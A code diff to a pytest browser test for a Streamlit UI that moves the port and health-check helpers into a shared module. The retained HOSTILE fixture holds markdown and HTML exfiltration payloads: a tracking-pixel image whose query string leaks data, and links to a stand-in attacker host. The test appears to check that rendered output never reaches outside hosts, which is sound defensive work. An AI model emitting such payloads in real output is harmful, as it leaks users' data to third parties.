@@ -12,15 +12,14 @@ from __future__ import annotations
 
 import os
 import re
-import socket
 import subprocess
 import sys
-import time
-import urllib.request
 from pathlib import Path
 from urllib.parse import urlparse
 
 import pytest
+
+from ui.bench_sessions import free_port, wait_healthy  # one way to start a server and wait for it
 
 ROOT = Path(__file__).resolve().parents[2]
 ARTIFACTS = Path(__file__).resolve().parents[1] / "artifacts"
@@ -34,27 +33,6 @@ pytestmark = pytest.mark.browser
 HOSTILE = ("The capital of Kenya is Nairobi ![pixel](http://198.51.100.7/p.png?leak=kenya) "
            "[click me](https://evil.example/x) <https://evil.example/auto> https://evil.example/bare "
            "www.evil.example <img src=\"http://198.51.100.7/i.png\"> :material/home: $x^2$ **bold**.")
-
-
-def free_port() -> int:
-    with socket.socket() as s:
-        s.bind(("127.0.0.1", 0))
-        return s.getsockname()[1]
-
-
-def wait_healthy(url: str, proc: subprocess.Popen, timeout: float = 60) -> None:
-    deadline = time.monotonic() + timeout
-    while time.monotonic() < deadline:
-        if proc.poll() is not None:
-            raise RuntimeError(f"streamlit exited with {proc.returncode}")
-        try:
-            with urllib.request.urlopen(f"{url}/_stcore/health", timeout=2) as resp:
-                if resp.status == 200:
-                    return
-        except OSError:
-            pass
-        time.sleep(0.3)
-    raise TimeoutError(f"streamlit did not become healthy at {url} in {timeout} s")
 
 
 def leaves_localhost(url: str) -> bool:
@@ -85,7 +63,7 @@ def server(tmp_path):
     )
     url = f"http://127.0.0.1:{port}"
     try:
-        wait_healthy(url, proc)
+        wait_healthy(url, proc, timeout=60)
         yield url
     finally:
         proc.terminate()
